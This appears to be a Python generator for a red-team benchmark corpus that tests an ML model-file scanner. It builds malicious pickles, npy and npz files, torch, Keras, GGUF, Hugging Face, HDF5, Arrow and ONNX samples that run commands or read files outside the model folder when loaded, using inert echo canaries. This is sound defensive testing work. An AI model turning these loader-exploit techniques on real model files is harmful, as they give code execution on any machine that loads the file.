"""Set D: an independent red-team corpus for `mlsecops scan models` (loader behaviours).

Written by an outside red-team engineer from the public README, `mlsecops --help` and the
installed libraries' own loader source (joblib, numpy, torch.package, keras, transformers,
llama-cpp conventions, PyTables, pyarrow), never from the scanner's source or tests nor from the
other red-team sets. Each technique targets something a loader really does that a scanner author
may not have modelled: joblib following a legacy `NDArrayWrapper.filename` to any path and
`np.load(allow_pickle=True)`-ing it, numpy's `.npy` header grammar (`ast.literal_eval`, subarray
and nested object dtypes, format 3.0), `.npz` members without a `.npy` suffix, trusted numpy
reconstructors that call an argument, `torch.package` archives that shadow trusted modules with
packaged source, duplicate zip records, Keras `compile_config` / legacy `training_config`,
named GGUF chat templates, transformers remote code reached from side configs, PyTables'
attribute unpickling and pyarrow's pickled extension types.

    python bench/independent/gen_model_redteam_d.py DEST

writes DEST/malicious/, DEST/benign/ and DEST/manifest.json. Payloads are inert canaries
(`echo MLSECOPS-D-CANARY`, paths under /tmp, 127.0.0.1:9). Malicious pickles are built from raw
opcodes and are never loaded, by this script or the bench. Benign files come from the
libraries' own savers with fixed seeds.
"""

from __future__ import annotations

import argparse
import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import shutil
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path
from typing import Any

CANARY = "echo MLSECOPS-D-CANARY"
OUT_DIR = "/tmp/mlsecops-d-canary"
SSTI = "{{ cycler.__init__.__globals__.os.popen('" + CANARY + "').read() }}"
FIXED_ZIP_DATE = (2020, 1, 1, 0, 0, 0)

Manifest = list[dict[str, Any]]


# --------------------------------------------------------------------------- raw pickle opcodes


def _str(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module: str, name: str, *args: str, proto: int = 2) -> bytes:
    """module.name(*args) as a protocol-2 pickle body (no PROTO, no STOP)."""
    body = _global(module, name) + b"(" + b"".join(_str(a) for a in args) + b"tR"
    return body


def wrap(body: bytes, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


def system_pickle(cmd: str = CANARY) -> bytes:
    return wrap(call("posix", "system", cmd))


def getoutput_pickle() -> bytes:
    return wrap(call("subprocess", "getoutput", CANARY))


def exec_pickle() -> bytes:
    return wrap(call("builtins", "exec", f"__import__('os').system('{CANARY}')"))


# --------------------------------------------------------------------------- helpers


class Corpus:
    def __init__(self, dest: Path) -> None:
        self.dest = dest
        self.manifest: Manifest = []
        for label in ("malicious", "benign"):
            (dest / label).mkdir(parents=True, exist_ok=True)

    def path(self, label: str, rel: str) -> Path:
        p = self.dest / label / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        return p

    def add(self, label: str, rel: str, cls: str, fmt: str, technique: str) -> None:
        self.manifest.append(
            {"path": f"{label}/{rel}", "label": label, "class": cls, "format": fmt,
             "technique": technique}
        )

    def mal(self, rel: str, data: bytes, cls: str, fmt: str, technique: str) -> None:
        self.path("malicious", rel).write_bytes(data)
        self.add("malicious", rel, cls, fmt, technique)


def npy_header(descr_literal: str, version: tuple[int, int] = (1, 0), pad: int = 0,
               shape: str = "(1,)") -> bytes:
    """An .npy header whose dict text is written verbatim (numpy parses it with literal_eval)."""
    text = "{'descr': " + descr_literal + ", 'fortran_order': False, 'shape': " + shape + ", }"
    text += " " * pad
    major = version[0]
    hlen_size = 2 if major == 1 else 4
    enc = "utf8" if major == 3 else "latin1"
    raw = text.encode(enc)
    total = 6 + 2 + hlen_size + len(raw) + 1
    raw += b" " * ((64 - total % 64) % 64) + b"\n"
    fmt = "<H" if hlen_size == 2 else "<I"
    return b"\x93NUMPY" + bytes(version) + struct.pack(fmt, len(raw)) + raw


def check_npy_header(blob: bytes) -> None:
    """Parse the header with numpy's own reader (header only, never the payload)."""
    import numpy as np

    try:
        from numpy.lib import _format_impl as fmt  # numpy >= 2
    except ImportError:
        fmt = np.lib.format  # type: ignore[assignment]
    fp = io.BytesIO(blob)
    version = fmt.read_magic(fp)
    _shape, _fortran, dtype = fmt._read_array_header(
        fp, version, max_header_size=10**7)
    if not dtype.hasobject:
        raise SystemExit(f"generator bug: header {blob[:80]!r} is not an object dtype")


def zip_bytes(members: list[tuple[str, bytes]], compress: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are deliberate
        with zipfile.ZipFile(buf, "w") as zf:
            for name, data in members:
                info = zipfile.ZipInfo(name, FIXED_ZIP_DATE)
                info.compress_type = compress
                zf.writestr(info, data)
    return buf.getvalue()


def tar_bytes(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1577836800
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# --------------------------------------------------------------------------- malicious classes


def joblib_legacy_wrapper(c: Corpus) -> None:
    """joblib's NumpyUnpickler.load_build calls NDArrayWrapper.read, which np.load()s
    os.path.join(dirname, self.filename) with allow_pickle=True: an absolute or ../ filename
    loads (and unpickles) a file outside the model folder; a non-.npy file falls back to pickle."""
    import numpy as np
    from joblib.numpy_pickle_compat import NDArrayWrapper

    cls = "joblib-legacy-wrapper-path"

    def dumped(obj: Any, proto: int = 2) -> bytes:
        return __import__("pickle").dumps(obj, protocol=proto)  # pickling calls no payload

    def w(name: str) -> NDArrayWrapper:
        return NDArrayWrapper(name, np.ndarray, allow_mmap=False)

    absolute = f"{OUT_DIR}/stage2.npy"
    c.mal("legacy_abs.joblib", dumped(w(absolute)), cls, "joblib",
          "NDArrayWrapper.filename absolute /tmp path: joblib np.load(allow_pickle=True)s it")
    c.mal("legacy_dotdot.joblib", dumped(w("../../../../../tmp/mlsecops-d-canary/stage2.npy")),
          cls, "joblib", "NDArrayWrapper.filename ../ traversal out of the model folder")
    est = {"coef_": w(absolute), "intercept_": 0.25, "n_features_in_": 4}
    c.mal("legacy_in_dict.pkl", dumped(est, 4), cls, "pickle",
          "dict of estimator attributes, one value a legacy NDArrayWrapper to a /tmp file")
    c.mal("legacy_gzip.joblib", gzip.compress(dumped(est), mtime=0), cls, "joblib+gzip",
          "gzip-compressed joblib (joblib sniffs the magic) with a legacy wrapper to /tmp")
    c.mal("legacy_zlib.joblib", zlib.compress(dumped(est, 3)), cls, "joblib+zlib",
          "zlib-compressed joblib with a legacy wrapper to /tmp")
    c.mal("legacy_shm.pkl", dumped([w("/dev/shm/mlsecops-d-canary.dat")], 5), cls, "pickle",
          "protocol 5 list with a legacy wrapper to /dev/shm (np.load falls back to pickle)")
    c.mal("legacy_tar/model.tar", tar_bytes([("model/clf.joblib", dumped(w(absolute)))]),
          cls, "tar", "tar holding a joblib whose legacy wrapper points to /tmp")
    # folder sample: sidecar inside the folder, no .npy suffix, raw pickle (np.load -> pickle)
    p = c.path("malicious", "legacy_sidecar/estimator.joblib")
    p.write_bytes(dumped(w("estimator.joblib_01.dat")))
    c.path("malicious", "legacy_sidecar/estimator.joblib_01.dat").write_bytes(system_pickle())
    c.add("malicious", "legacy_sidecar", cls, "joblib+sidecar",
          "legacy wrapper to a sidecar '.dat' that is a raw pickle (np.load pickle fallback)")


def npy_descr_grammar(c: Corpus) -> None:
    """numpy reads the .npy header with ast.literal_eval and descr_to_dtype: object dtypes
    hidden in subarrays, nested structs, string concatenation, escapes, format 3.0, big pads."""
    cls = "npy-header-grammar"
    variants = [
        ("subarray.npy", "('|O', (2,))", (1, 0), 0, "descr is a subarray tuple ('|O', (2,))"),
        ("nested_struct.npy", "[('w', [('inner', '|O')])]", (1, 0), 0,
         "object field nested two structs deep"),
        ("struct_subarray.npy", "[('a', '<f4'), ('b', '|O', (1,))]", (1, 0), 0,
         "struct field 'b' is an object subarray"),
        ("concat_literal.npy", "'|' 'O'", (1, 0), 0,
         "descr is two adjacent string literals, joined by literal_eval"),
        ("escaped_literal.npy", "'\\x7c\\x4f'", (1, 0), 0,
         "descr spelled with \\x escapes inside the header text"),
        ("parenthesised.npy", "('O8')", (1, 0), 0, "descr 'O8' in parentheses"),
        ("native_order.npy", "'=O'", (1, 0), 0, "descr '=O' byte-order spelling"),
        ("format3.npy", "'|O'", (3, 0), 0, "format version 3.0 (utf-8 header) object array"),
        ("format2_bigpad.npy", "'|O'", (2, 0), 120_000, "format 2.0 with a 120 kB padded header"),
        ("empty_name_field.npy", "[('', '|O')]", (1, 0), 0, "struct whose only field is unnamed"),
    ]
    payloads = [system_pickle(), getoutput_pickle(), exec_pickle()]
    for i, (name, descr, ver, pad, tech) in enumerate(variants):
        blob = npy_header(descr, ver, pad) + payloads[i % len(payloads)]
        check_npy_header(blob)
        c.mal(name, blob, cls, "npy", tech + "; np.load(allow_pickle=True) unpickles the body")
    # read_array unpickles an object body whatever the shape says, even for zero elements
    for name, shape, tech in [("zero_length.npy", "(0,)", "object array of shape (0,)"),
                              ("zero_dim_empty.npy", "(3, 0)", "object array of shape (3, 0)")]:
        blob = npy_header("'|O'", shape=shape) + system_pickle()
        check_npy_header(blob)
        c.mal(name, blob, cls, "npy", tech + " still has its pickle body unpickled by np.load")


def npz_member_names(c: Corpus) -> None:
    """np.load on a zip lists every member (only a '.npy' suffix is stripped) and read_array()s
    any member that starts with the npy magic, whatever its name."""
    cls = "npz-member-name"
    obj = npy_header("'|O'") + system_pickle()
    check_npy_header(obj)
    import numpy as np

    good = io.BytesIO()
    np.save(good, np.arange(4, dtype=np.float32))
    cases = [
        ("no_suffix.npz", [("arr_0.npy", good.getvalue()), ("coef", obj)], zipfile.ZIP_STORED,
         "object-dtype member named 'coef' (no .npy suffix)"),
        ("bin_suffix.npz", [("weights.bin", obj)], zipfile.ZIP_STORED,
         "object-dtype member named weights.bin"),
        ("upper_suffix.npz", [("W.NPY", obj)], zipfile.ZIP_DEFLATED,
         "deflated member named W.NPY (upper case)"),
        ("nested_dir.npz", [("a/b/c/state", obj), ("bias.npy", good.getvalue())],
         zipfile.ZIP_DEFLATED, "object-dtype member under a/b/c/ without suffix"),
        ("v3_member.npz", [("emb", npy_header("[('x', '|O')]", (3, 0)) + exec_pickle())],
         zipfile.ZIP_STORED, "member 'emb' in npy format 3.0 with a struct object field"),
    ]
    for name, members, comp, tech in cases:
        c.mal(name, zip_bytes(members, comp), cls, "npz", tech)


def trusted_ctor_callable(c: Corpus) -> None:
    """numpy.random._pickle.__generator_ctor / __randomstate_ctor call their second argument
    with the first; torch._tensor._rebuild_from_type_v2 calls its first argument."""
    cls = "trusted-ctor-calls-arg"
    mod = "numpy.random._pickle"

    def ctor(fn: str, callee: tuple[str, str], arg: str) -> bytes:
        return wrap(_global(mod, fn) + b"(" + _str(arg) + _global(*callee) + b"tR")

    c.mal("rng_generator.pkl", ctor("__generator_ctor", ("posix", "system"), CANARY), cls,
          "pickle", "__generator_ctor(cmd, posix.system): the 'bit_generator_ctor' is called")
    c.mal("rng_state.joblib",
          ctor("__randomstate_ctor", ("pandas.io.pickle", "read_pickle"), f"{OUT_DIR}/s2.pkl"),
          cls, "joblib", "__randomstate_ctor(path, pandas read_pickle): loads a 2nd-stage pickle")
    c.mal("rng_joblib_load.pkl",
          ctor("__randomstate_ctor", ("joblib.numpy_pickle", "load"), f"{OUT_DIR}/s2.joblib"),
          cls, "pickle", "__randomstate_ctor(path, joblib.load): loads a 2nd-stage joblib")
    body = (_global("torch._tensor", "_rebuild_from_type_v2") + b"(" + _global("posix", "system")
            + _global("torch", "Tensor") + b"(" + _str(CANARY) + b"t}tR")
    c.mal("rebuild_from_type.pt", torch_zip(wrap(body)), cls, "torch-zip",
          "torch._tensor._rebuild_from_type_v2(posix.system, Tensor, (cmd,), {}) in data.pkl")


def torch_zip(data_pkl: bytes, prefix: str = "archive",
              extra: list[tuple[str, bytes]] | None = None) -> bytes:
    members = [(f"{prefix}/data.pkl", data_pkl), (f"{prefix}/byteorder", b"little"),
               (f"{prefix}/version", b"3\n")]
    return zip_bytes(members + (extra or []))


def torch_package_shadow(c: Corpus) -> None:
    """torch.package's PackageImporter imports every module present in the archive from the
    archive's own source (only .data/extern_modules go to sys.modules): a pickle that names only
    trusted globals runs the packaged source of the module it names."""
    import torch

    cls = "torch-package-shadow"
    payload_src = f"import os\nos.system({CANARY!r})\n"

    def package(rel: str, records: list[tuple[str, bytes]]) -> None:
        p = c.path("malicious", rel)
        writer = torch._C.PyTorchFileWriter(str(p))
        for name, data in records:
            writer.write_record(name, data, len(data))
        writer.write_end_of_file()

    od = wrap(_global("collections", "OrderedDict") + b")R")
    package("pkg_collections.pt", [
        (".data/version", b"1\n"), (".data/extern_modules", b""),
        ("model/model.pkl", od),
        ("collections/__init__.py", (payload_src + "OrderedDict = dict\n").encode()),
    ])
    c.add("malicious", "pkg_collections.pt", cls, "torch-package",
          "pickle names collections.OrderedDict; archive ships collections/__init__.py payload")
    rebuild = wrap(_global("torch._utils", "_rebuild_tensor_v2") + b")R")
    package("pkg_torch_utils.pt", [
        (".data/version", b"1\n"), (".data/extern_modules", b"builtins\n"),
        ("weights/state.pkl", rebuild),
        ("torch/__init__.py", b""),
        ("torch/_utils.py", (payload_src + "def _rebuild_tensor_v2(*a):\n    return a\n").encode()),
    ])
    c.add("malicious", "pkg_torch_utils.pt", cls, "torch-package",
          "pickle names torch._utils._rebuild_tensor_v2; archive ships torch/_utils.py payload")
    recon = wrap(_global("numpy.core.multiarray", "_reconstruct") + b")R")
    package("pkg_numpy.pt", [
        (".data/version", b"1\n"), (".data/extern_modules", b""),
        ("arrays/coef.pkl", recon),
        ("numpy/__init__.py", b""), ("numpy/core/__init__.py", b""),
        ("numpy/core/multiarray.py", (payload_src + "def _reconstruct(*a):\n    return a\n").encode()),
    ])
    c.add("malicious", "pkg_numpy.pt", cls, "torch-package",
          "pickle names numpy.core.multiarray._reconstruct; archive ships that module's source")


def torch_zip_duplicates(c: Corpus) -> None:
    """Two central-directory records with the same name: torch's reader (miniz) takes the first,
    Python's zipfile (np.load) the last; a scanner that reads one name once sees only one."""
    cls = "zip-duplicate-record"
    benign = wrap(b"}")
    bad = system_pickle()
    c.mal("dup_first.pt", zip_bytes([("archive/data.pkl", bad), ("archive/data.pkl", benign),
                                     ("archive/version", b"3\n")]), cls, "torch-zip",
          "archive/data.pkl twice: the first record malicious, the last one an empty dict")
    good = io.BytesIO()
    import numpy as np

    np.save(good, np.zeros(3))
    obj = npy_header("'|O'") + getoutput_pickle()
    c.mal("dup_member.npz", zip_bytes([("w.npy", good.getvalue()), ("w.npy", obj)]), cls, "npz",
          "npz with w.npy twice: a float array first, object-dtype last (np.load reads the last)")


def keras_compile_config(c: Corpus, keras: Any) -> None:
    """Keras deserializes compile_config (loss, metrics, optimizer) at load time when
    compile=True (the default), and the legacy .h5 loader does the same with training_config."""
    import h5py

    cls = "keras-compile-config"
    tmp = c.dest / "_work"
    tmp.mkdir(exist_ok=True)
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2, activation="relu"),
                              keras.layers.Dense(1)])
    model.compile(optimizer="adam", loss="mse", metrics=["mae"])
    base = tmp / "base.keras"
    model.save(base)
    with zipfile.ZipFile(base) as zf:
        members = [(i.filename, zf.read(i)) for i in zf.infolist()]
    config = json.loads(dict(members)["config.json"])

    def fn(module: str, name: str) -> dict[str, Any]:
        return {"module": module, "class_name": "function", "config": name,
                "registered_name": name}

    code = compile(f"lambda y, p: __import__('os').system({CANARY!r})", "<d>", "eval")
    lam_code = base64.b64encode(marshal.dumps(code.co_consts[0])).decode()
    lam = {"module": "builtins", "class_name": "__lambda__",
           "config": {"code": lam_code, "defaults": None, "closure": None},
           "registered_name": "__lambda__"}
    # the generic deserializer (compile_config) expects func_dump's triple under "value"
    lam_generic = {"class_name": "__lambda__", "config": {"value": [lam_code, None, None]}}
    edits = {
        "compile_loss.keras": (lambda cc: cc.__setitem__("loss", fn("posix", "system")),
                               "compile_config.loss is posix.system (function reference)"),
        "compile_metrics.keras": (lambda cc: cc.__setitem__("metrics", [lam_generic]),
                                  "compile_config.metrics holds a marshalled __lambda__"),
        "compile_lr.keras": (
            lambda cc: cc["optimizer"]["config"].__setitem__(
                "learning_rate", fn("subprocess", "getoutput")),
            "compile_config.optimizer learning_rate is subprocess.getoutput"),
    }
    for name, (edit, tech) in edits.items():
        cfg = json.loads(json.dumps(config))
        cc = cfg.get("compile_config") or {}
        if not isinstance(cc.get("optimizer"), dict):
            cc["optimizer"] = {"module": "keras.optimizers", "class_name": "Adam",
                               "config": {"learning_rate": 0.001}, "registered_name": None}
        edit(cc)
        cfg["compile_config"] = cc
        new = [(n, json.dumps(cfg).encode() if n == "config.json" else d) for n, d in members]
        new = [(n, fixed_date(d) if n == "metadata.json" else d) for n, d in new]
        c.mal(name, zip_bytes(new, zipfile.ZIP_DEFLATED), cls, "keras", tech)
    # keras.saving.load_model(dir) loads an unzipped layout: config.json next to the weights
    for rel, edit, tech in [
        ("keras_dir_lambda", "lambda", "unzipped .keras folder (load_model(dir)), Lambda layer with marshal code"),
        ("keras_dir_loss", "loss", "unzipped .keras folder, compile_config.loss posix.system"),
    ]:
        cfg = json.loads(json.dumps(config))
        if edit == "lambda":
            layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                     "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                "function": lam, "arguments": {}}}
            cfg["config"]["layers"].insert(1, layer)
        else:
            cfg.setdefault("compile_config", {})["loss"] = fn("posix", "system")
        for n, d in members:
            data = json.dumps(cfg).encode() if n == "config.json" else d
            c.path("malicious", f"{rel}/{n}").write_bytes(fixed_date(data) if n == "metadata.json" else data)
        c.add("malicious", rel, cls, "keras-folder", tech)
    h5 = c.path("malicious", "training_config.h5")
    model.save(h5)
    with h5py.File(h5, "r+") as f:
        tc = {"loss": fn("posix", "system"), "metrics": [fn("subprocess", "getoutput")],
              "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}},
              "loss_weights": None, "weighted_metrics": None}
        f.attrs["training_config"] = json.dumps(tc)
    c.add("malicious", "training_config.h5", cls, "h5",
          "legacy .h5 training_config: loss posix.system, metric subprocess.getoutput")


def fixed_date(metadata: bytes) -> bytes:
    """Keras stamps date_saved into metadata.json; pin it so the sample is byte-stable."""
    meta = json.loads(metadata)
    meta["date_saved"] = "2020-01-01@00:00:00"
    return json.dumps(meta).encode()


def gguf_string(s: str) -> bytes:
    raw = s.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf(kvs: list[tuple[str, str | list[str]]]) -> bytes:
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs))
    for key, value in kvs:
        out += gguf_string(key)
        if isinstance(value, list):
            out += struct.pack("<IIQ", 9, 8, len(value)) + b"".join(gguf_string(v) for v in value)
        else:
            out += struct.pack("<I", 8) + gguf_string(value)
    return out + b"\x00" * ((32 - len(out) % 32) % 32)


def gguf_named_templates(c: Corpus) -> None:
    """llama.cpp / llama-cpp-python register every 'tokenizer.chat_template.<name>' key as a
    selectable template; the default 'tokenizer.chat_template' stays innocent."""
    cls = "gguf-named-template"
    plain = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}"
    base = [("general.architecture", "llama"), ("general.name", "tiny"),
            ("tokenizer.chat_template", plain)]
    c.mal("tool_use.gguf", gguf(base + [("tokenizer.chat_template.tool_use", SSTI)]), cls,
          "gguf", "SSTI in the named template tokenizer.chat_template.tool_use")
    c.mal("rag_list.gguf", gguf(base + [("tokenizer.chat_templates", ["default", "rag"]),
                                       ("tokenizer.chat_template.rag", SSTI)]), cls, "gguf",
          "SSTI in tokenizer.chat_template.rag, listed in tokenizer.chat_templates")
    c.mal("named_attr.gguf", gguf(base + [(
        "tokenizer.chat_template.default",
        "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}")]),
        cls, "gguf", "|attr() dunder chain in tokenizer.chat_template.default")


def hf_additional_templates(c: Corpus) -> None:
    """transformers (local folder) registers every additional_chat_templates/*.jinja as a named
    chat template next to the default one."""
    cls = "hf-additional-chat-template"
    tok = {"tokenizer_class": "PreTrainedTokenizerFast", "model_max_length": 512,
           "chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"}
    for rel, name, tpl, tech in [
        ("hf_extra_template", "tool_use.jinja", SSTI,
         "additional_chat_templates/tool_use.jinja reaches os.popen via cycler globals"),
        ("hf_extra_template_attr", "rag.jinja",
         "{{ (lipsum|attr('__glo' ~ 'bals__'))['os'].popen('" + CANARY + "').read() }}",
         "additional_chat_templates/rag.jinja, lipsum|attr with a concatenated dunder"),
    ]:
        c.path("malicious", f"{rel}/tokenizer_config.json").write_text(json.dumps(tok))
        c.path("malicious", f"{rel}/additional_chat_templates/{name}").write_text(tpl)
        c.add("malicious", rel, cls, "hf-folder", tech)


def hf_side_configs(c: Corpus) -> None:
    """transformers' trust_remote_code also imports code named by processor/feature-extractor
    configs, by another repo ('org/repo--module.Class') and by custom_generate/generate.py."""
    cls = "hf-remote-code-side-config"
    evil_py = f"import os\nos.system({CANARY!r})\n\nclass DProcessor:\n    pass\n"
    cfg = {"model_type": "bert", "architectures": ["BertModel"], "hidden_size": 8}

    def folder(rel: str, files: dict[str, str], tech: str) -> None:
        for name, text in files.items():
            c.path("malicious", f"{rel}/{name}").write_text(text)
        c.add("malicious", rel, cls, "hf-folder", tech)

    folder("hf_image_processor", {
        "config.json": json.dumps(cfg),
        "preprocessor_config.json": json.dumps({
            "image_processor_type": "DProcessor",
            "auto_map": {"AutoImageProcessor": "image_processing_d.DProcessor"}}),
        "image_processing_d.py": evil_py,
    }, "preprocessor_config.json auto_map AutoImageProcessor -> image_processing_d.py")
    folder("hf_other_repo", {
        "config.json": json.dumps({**cfg, "auto_map": {
            "AutoModel": "mlsecops-d-canary/helpers--modeling_d.DModel",
            "AutoConfig": "mlsecops-d-canary/helpers--configuration_d.DConfig"}}),
    }, "config.json auto_map names code in another Hub repo ('org/repo--module.Class')")
    folder("hf_custom_generate", {
        "config.json": json.dumps(cfg),
        "custom_generate/generate.py": evil_py + "\ndef generate(model, **kw):\n    return None\n",
        "custom_generate/requirements.txt": "numpy\n",
    }, "custom_generate/generate.py (generate(custom_generate=..., trust_remote_code=True))")
    folder("hf_feature_extractor", {
        "config.json": json.dumps(cfg),
        "preprocessor_config.json": json.dumps({
            "feature_extractor_type": "DProcessor",
            "auto_map": {"AutoFeatureExtractor": "feature_extraction_d.DProcessor",
                         "AutoProcessor": "processing_d.DProcessor"}}),
        "feature_extraction_d.py": evil_py,
        "processing_d.py": "from .feature_extraction_d import DProcessor\n",
    }, "preprocessor_config auto_map AutoFeatureExtractor/AutoProcessor -> local modules")


def pytables_attr_pickle(c: Corpus) -> None:
    """PyTables (pandas.read_hdf) unpickles any bytes attribute that ends with '.', the STOP
    opcode; h5py-level readers see only a string attribute."""
    import h5py
    import numpy as np

    cls = "pytables-attr-pickle"
    sysattrs = {"CLASS": b"GROUP", "TITLE": b"", "VERSION": b"1.0",
                "PYTABLES_FORMAT_VERSION": b"2.1"}

    def write(rel: str, group: str, attr: str, payload: bytes, tech: str) -> None:
        p = c.path("malicious", rel)
        with h5py.File(p, "w", track_order=True) as f:
            for k, v in sysattrs.items():
                f.attrs[k] = np.bytes_(v)
            g = f.require_group(group) if group != "/" else f
            if group != "/":
                for k, v in sysattrs.items():
                    g.attrs[k] = np.bytes_(v)
                g.attrs["pandas_type"] = np.bytes_(b"frame")
                g.attrs["pandas_version"] = np.bytes_(b"0.15.2")
                g.create_dataset("axis0", data=np.array([b"a", b"b"]))
            g.attrs[attr] = np.bytes_(payload)
        c.add("malicious", rel, cls, "hdf5", tech)

    write("root_attr.h5", "/", "USER_META", system_pickle(),
          "root attribute holds a protocol-2 pickle ending in '.'")
    write("store_frame.hdf5", "df", "index_class", getoutput_pickle(),
          "pandas HDFStore-like group, attribute index_class is a pickle")
    proto0 = f"cposix\nsystem\n(V{CANARY}\ntR.".encode()
    write("proto0_attr.h5", "data", "encoding", proto0,
          "group attribute holds a text protocol-0 pickle")


def arrow_extension_pickle(c: Corpus) -> None:
    """pyarrow < 14.0.1 unpickles the metadata of the 'arrow.py_extension_type' extension type
    when reading IPC/Feather/Parquet (CVE-2023-47248)."""
    import pyarrow as pa
    import pyarrow.parquet as pq
    from pyarrow import feather

    cls = "arrow-extension-pickle"

    def table(payload: bytes) -> Any:
        meta = {b"ARROW:extension:name": b"arrow.py_extension_type",
                b"ARROW:extension:metadata": payload}
        field = pa.field("embedding", pa.int64(), metadata=meta)
        return pa.table({"embedding": pa.array([1, 2, 3])}, schema=pa.schema([field]))

    feather.write_feather(table(system_pickle()), c.path("malicious", "features.feather"),
                          compression="uncompressed")
    c.add("malicious", "features.feather", cls, "feather",
          "Feather v2 field typed arrow.py_extension_type, metadata a pickle")
    pq.write_table(table(getoutput_pickle()), c.path("malicious", "embeddings.parquet"))
    c.add("malicious", "embeddings.parquet", cls, "parquet",
          "Parquet schema (ARROW:schema) with a pickled py_extension_type")
    sink = io.BytesIO()
    t = table(exec_pickle())
    with pa.ipc.new_stream(sink, t.schema) as w:
        w.write_table(t)
    c.mal("vectors.arrows", sink.getvalue(), cls, "arrow-ipc",
          "Arrow IPC stream whose schema carries a pickled py_extension_type")


def copyreg_extension(c: Corpus) -> None:
    """copyreg.add_extension registers (module, name) under a code; EXT1/EXT2/EXT4 then resolve
    the callable with no GLOBAL opcode naming it."""
    cls = "copyreg-ext-opcode"

    def ext(code: int, module: str, name: str, op: bytes) -> bytes:
        reg = _global("copyreg", "add_extension") + b"(" + _str(module) + _str(name)
        reg += b"J" + struct.pack("<i", code) + b"tR0"
        return wrap(reg + op + b"(" + _str(CANARY) + b"tR")

    c.mal("ext1.pkl", ext(0x7A, "posix", "system", b"\x82" + bytes([0x7A])), cls, "pickle",
          "add_extension(posix, system, 0x7a) then EXT1 0x7a called")
    c.mal("ext2.joblib", ext(0x1234, "subprocess", "getoutput", b"\x83" + struct.pack("<H", 0x1234)),
          cls, "joblib", "add_extension(subprocess, getoutput, 0x1234) then EXT2")
    c.mal("ext4.pt", torch_zip(ext(0x10203, "posix", "system", b"\x84" + struct.pack("<i", 0x10203))),
          cls, "torch-zip", "EXT4 after add_extension, inside a torch zip's data.pkl")


def containers(c: Corpus) -> None:
    """Loader-side decompression: pandas.read_pickle infers '.tar'/'.zip' from the name and reads
    the single member; joblib sniffs bz2/lzma."""
    cls = "container-by-suffix"
    obj = npy_header("('|O', (1,))") + system_pickle()
    c.mal("frame.pkl.tar", tar_bytes([("frame.pkl", getoutput_pickle())]), cls, "tar",
          "pandas read_pickle tar compression: single member pickle")
    c.mal("frame.pkl.zip", zip_bytes([("payload", exec_pickle())], zipfile.ZIP_DEFLATED), cls,
          "zip", "pandas read_pickle zip compression: single member without suffix")
    c.mal("state.joblib.bz2", bz2.compress(wrap(call("posix", "system", CANARY))), cls,
          "joblib+bz2", "bz2 joblib stream (joblib sniffs BZh)")
    c.mal("arr.npy.xz", lzma.compress(obj), cls, "npy+xz",
          "xz-compressed .npy with a subarray object dtype")



def _varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def _pb(field: int, value: int | bytes | str) -> bytes:
    """One protobuf field: an int as a varint, bytes/str length-delimited."""
    if isinstance(value, int):
        return _varint(field << 3) + _varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return _varint(field << 3 | 2) + _varint(len(raw)) + raw


def onnx_external_tensor(name: str, location: str) -> bytes:
    """TensorProto (float[4]) whose bytes live in an external file (data_location EXTERNAL)."""
    ext = b"".join(_pb(13, _pb(1, k) + _pb(2, v))
                   for k, v in (("location", location), ("offset", "0"), ("length", "16")))
    return _pb(1, 4) + _pb(2, 1) + _pb(8, name) + ext + _pb(14, 1)


def onnx_graph(nodes: list[bytes], name: str, initializers: tuple[bytes, ...] = (),
               outputs: tuple[str, ...] = ("y",), inputs: tuple[str, ...] = ()) -> bytes:
    body = b"".join(_pb(1, n) for n in nodes) + _pb(2, name)
    body += b"".join(_pb(5, t) for t in initializers)
    body += b"".join(_pb(11, _pb(1, i)) for i in inputs)
    return body + b"".join(_pb(12, _pb(1, o)) for o in outputs)


def onnx_node(op: str, outputs: list[str], attrs: list[bytes], inputs: tuple[str, ...] = ()) -> bytes:
    return (b"".join(_pb(1, i) for i in inputs) + b"".join(_pb(2, o) for o in outputs)
            + _pb(3, f"{op.lower()}_0") + _pb(4, op) + b"".join(_pb(5, a) for a in attrs))


def onnx_model(graph: bytes, functions: tuple[bytes, ...] = ()) -> bytes:
    opsets = _pb(8, _pb(1, "") + _pb(2, 17)) + (_pb(8, _pb(1, "d") + _pb(2, 1)) if functions else b"")
    return (_pb(1, 8) + _pb(2, "mlsecops-d") + _pb(7, graph) + opsets
            + b"".join(_pb(25, f) for f in functions))


def onnx_external_elsewhere(c: Corpus) -> None:
    """onnx.load / onnxruntime resolve external data for every tensor, not only
    graph.initializer: node attribute tensors (t and tensors), If/Loop subgraphs and
    model-local function bodies (CVE-2024-27318 family, reached through other fields)."""
    cls = "onnx-external-data-elsewhere"
    secret = f"{OUT_DIR}/secret.bin"
    up = "../../../../../tmp/mlsecops-d-canary/secret.bin"
    const = onnx_node("Constant", ["y"], [_pb(1, "value") + _pb(5, onnx_external_tensor("c", secret))
                                          + _pb(20, 4)])
    c.mal("const_attr.onnx", onnx_model(onnx_graph([const], "g")), cls, "onnx",
          "Constant node's 'value' attribute tensor has external data at an absolute /tmp path")
